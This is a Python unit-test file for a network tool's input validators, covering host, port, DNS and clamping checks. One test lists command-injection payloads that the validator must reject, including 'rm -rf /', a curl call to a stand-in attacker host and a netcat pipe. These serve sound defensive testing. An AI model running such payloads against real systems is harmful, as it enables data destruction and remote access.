"""
Unit tests for input validation.
Covers:
- Host classification (IPv4 / IPv6 / hostname) and sanitisation
- Unsafe character rejection
- Port list rules
- DNS server and record type options
- Numeric clamping
"""
import pytest

from netdash.base.config import LimitsConfig, NetDashConfig, set_config
from netdash.errors import ErrorCode, ValidationError
from netdash.toolkit.validation import (
    UNSAFE_CHARACTERS,
    clamp,
    is_hostname,
    is_ipv4,
    is_ipv6,
    validate_dns_server,
    validate_host,
    validate_ports,
    validate_record_type,
)

# ============================================================================
# Host Validation
# ============================================================================

@pytest.mark.parametrize("char", sorted(UNSAFE_CHARACTERS))
def test_every_unsafe_character_is_rejected(char):
    for candidate in (f"example.com{char}", f"{char}1.1.1.1", f"a{char}b"):
        result = validate_host(candidate)
        assert result.ok is False
        assert result.code == ErrorCode.VALIDATION_UNSAFE


@pytest.mark.parametrize("payload", [
    "example.com; rm -rf /",
    "1.1.1.1 && curl evil.sh",
    "$(whoami).example.com",
    "`id`",
    "host | nc attacker 4444",
    "127.0.0.1\nreboot",
])
def test_injection_payloads_rejected(payload):
    assert validate_host(payload).ok is False


@pytest.mark.parametrize("address", [
    "0.0.0.0", "1.1.1.1", "8.8.8.8", "10.0.0.1", "192.168.1.254", "255.255.255.255",
])
def test_dotted_quad_passes_unchanged(address):
    result = validate_host(address)
    assert result.ok is True
    assert result.sanitized == address


def test_every_octet_value_accepted():
    for octet in range(256):
        address = f"10.{octet}.{255 - octet}.{octet}"
        assert validate_host(address).sanitized == address


@pytest.mark.parametrize("address", ["256.1.1.1", "1.2.3", "1.2.3.4.5", "01.2.3.4", "999.999.999.999"])
def test_malformed_ipv4_rejected(address):
    assert is_ipv4(address) is False
    assert validate_host(address).ok is False


def test_ipv6_literals():
    assert validate_host("::1").sanitized == "::1"
    assert validate_host("2001:db8::1").sanitized == "2001:db8::1"
    assert is_ipv6("fe80::1%eth0") is False
    assert is_ipv6("1.1.1.1") is False


def test_hostname_is_lowercased_and_trailing_dot_removed():
    result = validate_host("WWW.Example.COM.")
    assert result.ok is True
    assert result.sanitized == "www.example.com"


def test_surrounding_spaces_are_stripped():
    assert validate_host("  example.com ").sanitized == "example.com"


@pytest.mark.parametrize("name", ["-bad.example.com", "bad-.example.com", "under_score.com", "a..b", "."])
def test_invalid_hostnames(name):
    assert is_hostname(name.lower()) is False


def test_underscore_labels_only_for_dns_names():
    assert validate_host("_sip._tcp.example.com").ok is False
    assert validate_host("_dmarc.Example.com", allow_underscore=True).sanitized == "_dmarc.example.com"
    assert validate_host("_sip._tcp.example.com", allow_underscore=True).ok is True
    assert validate_host("_sip;id.example.com", allow_underscore=True).code == ErrorCode.VALIDATION_UNSAFE
    assert validate_host("-bad.example.com", allow_underscore=True).ok is False


def test_label_length_limit():
    assert is_hostname("a" * 63 + ".com") is True
    assert is_hostname("a" * 64 + ".com") is False


def test_required_and_length_checks():
    assert validate_host("").code == ErrorCode.VALIDATION_REQUIRED
    assert validate_host(None).code == ErrorCode.VALIDATION_REQUIRED
    assert validate_host(12345).code == ErrorCode.VALIDATION_REQUIRED
    assert validate_host("   ").code == ErrorCode.VALIDATION_REQUIRED
    assert validate_host("a" * 254).code == ErrorCode.VALIDATION_TOO_LONG


def test_length_checked_before_characters():
    result = validate_host(";" * 300)
    assert result.code == ErrorCode.VALIDATION_TOO_LONG


def test_unwrap_raises_validation_error():
    with pytest.raises(ValidationError) as exc_info:
        validate_host("bad;host").unwrap()
    assert exc_info.value.code == ErrorCode.VALIDATION_UNSAFE
    assert validate_host("example.org").unwrap() == "example.org"

# ============================================================================
# Port Validation
# ============================================================================

def test_empty_and_out_of_range_port_lists():
    assert validate_ports([]).ok is False
    assert validate_ports([0, 70000]).ok is False
    assert validate_ports(None).ok is False
    assert validate_ports("80").ok is False


def test_valid_ports_preserved():
    result = validate_ports([1, 65535, 80])
    assert result.ok is True
    assert result.sanitized == [1, 65535, 80]


def test_invalid_elements_dropped_and_duplicates_removed():
    result = validate_ports([22, "80", 0, 22, 443, 3.5, True, -1, 65536, 443])
    assert result.sanitized == [22, 443]


def test_port_list_size_is_a_hard_limit():
    assert validate_ports(list(range(1, 10001))).ok is True
    too_many = validate_ports([80] * 10001)
    assert too_many.ok is False
    assert too_many.code == ErrorCode.VALIDATION_OUT_OF_RANGE


def test_port_list_limit_follows_config():
    set_config(NetDashConfig(limits=LimitsConfig(scan_max_ports=3)))
    assert validate_ports([22, 80, 443]).ok is True
    assert validate_ports([22, 80, 443, 8080]).code == ErrorCode.VALIDATION_OUT_OF_RANGE
    assert validate_ports([22, 80], max_ports=1).error == "Too many ports (max 1)"

# ============================================================================
# DNS Options
# ============================================================================

def test_dns_server_optional():
    assert validate_dns_server(None).ok is True
    assert validate_dns_server(None).sanitized is None
    assert validate_dns_server("").sanitized is None


def test_dns_server_must_be_ipv4():
    assert validate_dns_server("8.8.8.8").sanitized == "8.8.8.8"
    assert validate_dns_server("dns.google").ok is False
    assert validate_dns_server("2001:4860:4860::8888").ok is False
    assert validate_dns_server("8.8.8.8;id").ok is False


def test_record_type():
    assert validate_record_type(None).sanitized == "A"
    assert validate_record_type("mx").sanitized == "MX"
    assert validate_record_type("AXFR").ok is False
    assert validate_record_type(5).ok is False

# ============================================================================
# Clamping
# ============================================================================

def test_clamp():
    assert clamp(50, 1, 10, 5) == 10
    assert clamp(-3, 1, 10, 5) == 1
    assert clamp(7, 1, 10, 5) == 7
    assert clamp(7.9, 1, 10, 5) == 7
    assert clamp(None, 1, 10, 5) == 5
    assert clamp("7", 1, 10, 5) == 5
    assert clamp(True, 1, 10, 5) == 5
    assert clamp(float("nan"), 1, 10, 5) == 5
